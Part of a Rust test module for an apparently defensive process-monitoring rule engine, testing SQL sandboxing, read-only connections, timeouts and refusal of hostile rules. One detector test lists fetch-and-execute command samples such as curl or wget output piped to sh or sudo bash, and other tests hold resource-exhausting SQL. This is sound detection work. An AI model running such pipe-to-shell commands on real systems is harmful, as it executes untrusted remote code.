    fn matches_come_in_rule_order_whichever_connection_ran_them() {
        // More rules than connections, of uneven cost, so both take several.
        let rules: Vec<Rule> = (0..40)
            .map(|i| {
                let sql = if i % 3 == 0 {
                    format!(
                        "SELECT pid FROM processes WHERE cmdline LIKE '%x -v%' AND pid % 40 = {i}"
                    )
                } else {
                    format!("SELECT pid FROM processes WHERE pid = {}", 1000 + i)
                };
                rule(&format!("r{i:02}"), &sql)
            })
            .collect();
        let mut engine = RuleEngine::new(rules).unwrap();
        assert!(engine.refused().is_empty(), "{:?}", engine.refused());
        let batch = rows(1000..3000, "/usr/bin/x");
        for _ in 0..3 {
            let got: Vec<(String, u32)> = engine
                .evaluate(&batch)
                .unwrap()
                .into_iter()
                .map(|m| (m.rule_id, m.pid))
                .collect();
            let mut want = Vec::new();
            for i in 0..40u32 {
                if i % 3 == 0 {
                    want.extend(
                        (1000..3000)
                            .filter(|p| p % 40 == i)
                            .map(|p| (format!("r{i:02}"), p)),
                    );
                } else {
                    want.push((format!("r{i:02}"), 1000 + i));
                }
            }
            assert_eq!(got, want);
        }
        let s = engine.stats();
        assert_eq!(
            (s.batches.get(), s.rule_runs.get(), s.rule_failures.get()),
            (3, 120, 0)
        );
        // A batch this large is shared out wherever there are two connections.
        let shared = u64::from(engine.readers.len() > 1) * 3;
        assert_eq!(s.shared_batches.get(), shared);
    }

    #[test]
    fn a_small_batch_runs_on_one_connection_and_matches_the_same() {
        let rules: Vec<Rule> = (0..8)
            .map(|i| {
                rule(
                    &format!("r{i}"),
                    &format!("SELECT pid FROM processes WHERE pid % 8 = {i}"),
                )
            })
            .collect();
        let mut engine = RuleEngine::new(rules).unwrap();
        for n in [PARALLEL_MIN_ROWS - 1, PARALLEL_MIN_ROWS] {
            let batch = rows(0..u32::try_from(n).unwrap(), "/usr/bin/x");
            let mut got: Vec<u32> = engine
                .evaluate(&batch)
                .unwrap()
                .into_iter()
                .map(|m| m.pid)
                .collect();
            got.sort_unstable();
            assert_eq!(got, (0..u32::try_from(n).unwrap()).collect::<Vec<_>>());
        }
        let s = engine.stats();
        assert_eq!((s.batches.get(), s.rule_runs.get()), (2, 16));
        // Only the batch at the threshold is shared, where it can be.
        assert_eq!(s.shared_batches.get(), u64::from(engine.readers.len() > 1));
    }

    #[test]
    fn engines_do_not_share_their_tables() {
        let all = || vec![rule("all", "SELECT pid FROM processes")];
        let (mut a, mut b) = (
            RuleEngine::new(all()).unwrap(),
            RuleEngine::new(all()).unwrap(),
        );
        assert_eq!(a.evaluate(&rows(1..3, "/a")).unwrap().len(), 2);
        assert_eq!(b.evaluate(&rows(10..15, "/b")).unwrap().len(), 5);
        assert_eq!(a.evaluate(&rows(1..2, "/a")).unwrap().len(), 1);
    }

    #[test]
    fn the_rules_connections_cannot_write_even_past_the_authorizer() {
        let engine = RuleEngine::new(vec![
            rule("a", "SELECT pid FROM processes"),
            rule("b", "SELECT pid FROM processes"),
        ])
        .unwrap();
        assert!(!engine.readers.is_empty());
        for reader in &engine.readers {
            // Refused by the authorizer...
            assert!(reader.conn.execute("DELETE FROM processes", []).is_err());
            // ...and, without it, by SQLite: the connection is read-only.
            reader.conn.authorizer(
                None::<fn(rusqlite::hooks::AuthContext<'_>) -> rusqlite::hooks::Authorization>,
            );
            let err = reader
                .conn
                .execute("DELETE FROM processes", [])
                .unwrap_err();
            assert!(
                matches!(&err, rusqlite::Error::SqliteFailure(e, _) if e.code == rusqlite::ErrorCode::ReadOnly),
                "{err}"
            );
        }
    }

    #[test]
    fn pipes_into_interpreters_are_told_from_other_pipes() {
        let yes = |s: &str| pipes_to_interpreter(&[s.to_owned()]);
        for s in [
            "curl -fsSL http://x/i.sh | sh",
            "wget -qO- http://x |bash -s -- --flag",
            "echo aGk= | base64 -d | sudo /bin/bash",
            "curl x | python3.11 -",
            "curl x | env sh",
        ] {
            assert!(yes(s), "{s}");
        }
        for s in [
            "curl -s https://api | jq .sha",
            "cat f | sha256sum",
            "ls | sort | shuf",
            "bash -c 'echo hi'",
        ] {
            assert!(!yes(s), "{s}");
        }
    }

    #[test]
    fn a_runaway_rule_is_interrupted_and_counted() {
        // Slow over data only: over the empty table it validates.
        let slow = rule(
            "slow",
            "SELECT a.pid FROM processes a, processes b, processes c, processes d \
             WHERE a.pid + b.pid + c.pid + d.pid < 0",
        );
        let mut engine = RuleEngine::new(vec![
            slow,
            rule("all", "SELECT pid FROM processes WHERE pid = 1"),
        ])
        .unwrap();
        assert!(engine.refused().is_empty(), "{:?}", engine.refused());
        let rows = rows(1..301, "/usr/bin/x");
        let m = engine.evaluate(&rows).unwrap();
        assert_eq!(m.len(), 1, "the other rule still ran");
        let s = engine.stats();
        assert_eq!((s.rule_failures.get(), s.rule_timeouts.get()), (1, 1));
        assert_eq!(
            s.failing_rules.get(),
            1,
            "one rule failed in the last batch"
        );
    }

    #[test]
    fn a_runaway_rule_over_no_data_is_refused_at_load_as_by_validate() {
        let slow = rule(
            "slow",
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS pid FROM n WHERE i < 0",
        );
        let err = validate(&slow).unwrap_err();
        assert!(err.reason.contains("does not finish"), "{err}");
        let engine = RuleEngine::new(vec![slow]).unwrap();
        assert_eq!(engine.refused(), [err]);
    }

    /// SQLite's process-wide hard heap limit now.
    fn hard_heap_limit() -> i64 {
        Connection::open_in_memory()
            .unwrap()
            .query_row("PRAGMA hard_heap_limit", [], |r| r.get(0))
            .unwrap()
    }

    #[test]
    fn a_pragma_in_a_rule_is_refused_and_has_no_effect() {
        let evil = rule("evil", "PRAGMA hard_heap_limit = 1");
        let err = validate(&evil).unwrap_err();
        assert!(err.reason.contains("PRAGMA hard_heap_limit"), "{err}");
        assert_eq!(hard_heap_limit(), ENGINE_HEAP_LIMIT);
        let mut engine = RuleEngine::new(vec![
            evil,
            rule("heap", "PRAGMA soft_heap_limit = 1"),
            rule("all", "SELECT pid FROM processes"),
        ])
        .unwrap();
        assert_eq!(engine.refused().len(), 2, "{:?}", engine.refused());
        assert_eq!(hard_heap_limit(), ENGINE_HEAP_LIMIT);
        // Memory is still there: a normal rule runs over a real batch.
        let found = engine.evaluate(&rows(1..2001, "/usr/bin/x")).unwrap();
        assert_eq!(found.len(), 2000);
        assert_eq!(engine.stats().rule_failures.get(), 0);
    }

    #[test]
    fn only_the_functions_rules_need_are_allowed_and_pragma_tables_are_refused() {
        for (sql, why) in [
            ("SELECT pid, randomblob(900000000) AS b FROM processes", "randomblob"),
            ("SELECT pid, zeroblob(500000000) AS b FROM processes", "zeroblob"),
            ("SELECT pid FROM processes WHERE random() > 0", "random"),
            ("SELECT pid, sqlite_version() AS v FROM processes", "sqlite_version"),
            ("SELECT pid, changes() AS c FROM processes", "changes"),
            ("SELECT 1 AS pid FROM pragma_compile_options", "pragma_compile_options"),
            ("SELECT pid FROM processes WHERE name IN (SELECT name FROM pragma_table_info('processes'))", "pragma_table_info"),
        ] {
            let err = validate(&rule("r", sql)).unwrap_err();
            assert!(err.reason.contains("refused") && err.reason.contains(why), "{sql}: {err}");
        }
        for sql in [
            "SELECT pid FROM processes WHERE lower(name) = 'x' AND length(exe) > 3",
            "SELECT pid FROM processes WHERE json_extract(argv, '$[0]') = 'x' OR argv ->> '$[1]' = '-v'",
            "SELECT pid, count(*) OVER (PARTITION BY name) AS n FROM processes",
            "SELECT max(pid) AS pid, group_concat(name) FROM processes GROUP BY exe",
            "SELECT pid FROM processes WHERE substr(exe, 1, 5) = '/tmp/' AND instr(cmdline, 'x') > 0",
            "SELECT pid FROM processes, json_each(argv) WHERE json_each.value = '-v'",
            "SELECT pid FROM processes WHERE observed_at > unixepoch('now', '-1 day') * 1000000000",
        ] {
            validate(&rule("r", sql)).unwrap_or_else(|e| panic!("{sql}: {e}"));
        }
    }

    #[test]
    fn each_connection_that_sees_rules_has_the_limits() {
        use rusqlite::limits::Limit;
        let (conn, _) = open_checker().unwrap();
        let engine = RuleEngine::new(vec![rule("a", "SELECT pid FROM processes")]).unwrap();
        for c in std::iter::once(&conn).chain(engine.readers.iter().map(|r| &r.conn)) {
            assert_eq!(
                c.limit(Limit::SQLITE_LIMIT_LENGTH).unwrap(),
                readonly::MAX_VALUE_BYTES
            );
            assert_eq!(c.limit(Limit::SQLITE_LIMIT_ATTACHED).unwrap(), 0);
            assert_eq!(
                c.limit(Limit::SQLITE_LIMIT_SQL_LENGTH).unwrap(),
                readonly::MAX_SQL_BYTES
            );
        }
        let long = format!(
            "SELECT pid FROM processes WHERE name = '{}'",
            "x".repeat(200_000)
        );
        assert!(validate(&rule("r", &long)).is_err());
    }

    /// Rules a hostile rule file could hold: each big in time or memory
    /// (shared with the memory test, `tests/hostile.rs`).
    const HOSTILE: [&str; 7] = include!("../tests/hostile.in");

    #[test]
    fn a_hostile_rule_is_refused_or_stopped_within_twice_its_limit_and_the_others_still_match() {
        let batch = rows(1..201, "/usr/bin/x");
        let normal = rule("normal", "SELECT pid FROM processes WHERE pid % 50 = 0");
        let (mut refused, mut stopped) = (0, 0);
        for sql in HOSTILE {
            let hostile = rule("hostile", sql);
            if validate(&hostile).is_err() {
                refused += 1;
                continue;
            }
            let mut engine = RuleEngine::new(vec![hostile.clone(), normal.clone()]).unwrap();
            assert_eq!(engine.rules().len(), 2, "{sql}");
            engine.load(&batch, None).unwrap();
            let reader = &engine.readers[0];
            let started = Instant::now();
            let run = reader.run_one(0, &engine.watchdog, &hostile, batch.len());
            let took = started.elapsed();
            eprintln!(
                "{sql:.60}: {took:?}, {}",
                if run.is_err() { "stopped" } else { "done" }
            );
            // Stopped, or done: within twice the limit either way.
            assert!(took < 2 * RULE_TIME_LIMIT, "{sql}: stopped after {took:?}");
            stopped += usize::from(run.is_err());
            // In one batch, the other rule's matches still come.
            let found = engine.evaluate(&batch).unwrap();
            let pids: Vec<u32> = found
                .iter()
                .filter(|m| m.rule_id == "normal")
                .map(|m| m.pid)
                .collect();
            assert_eq!(pids, [50, 100, 150, 200], "{sql}");
            let failures: Vec<(&str, u64)> = engine.rule_failures().collect();
            assert_eq!(failures[1], ("normal", 0), "{sql}");
        }
        assert!(
            refused >= 2 && stopped >= 3,
            "refused {refused}, stopped {stopped}"
        );
    }

    #[test]
    fn a_failing_rule_is_logged_once_a_minute_with_its_count() {
        let mut f = Failures::default();
        let t0 = Instant::now();
        assert_eq!(f.note(t0), Some(1));
        for s in 1..60 {
            assert_eq!(f.note(t0 + Duration::from_secs(s)), None);
        }
        assert_eq!(f.note(t0 + FAILURE_LOG_PERIOD), Some(60));
        assert_eq!(
            f.note(t0 + FAILURE_LOG_PERIOD + Duration::from_secs(1)),
            None
        );
        assert_eq!(f.total, 62);
    }

    #[test]
    fn a_rule_returning_more_rows_than_processes_is_stopped() {
        let mut engine = RuleEngine::new(vec![
            rule("cross", "SELECT a.pid FROM processes a, processes b"),
            rule("one", "SELECT pid FROM processes WHERE pid = 3"),
        ])
        .unwrap();
        let found = engine.evaluate(&rows(1..2001, "/x")).unwrap();
        assert_eq!(found.len(), 1);
        assert_eq!(
            engine.rule_failures().collect::<Vec<_>>(),
            [("cross", 1), ("one", 0)]
        );
    }
}
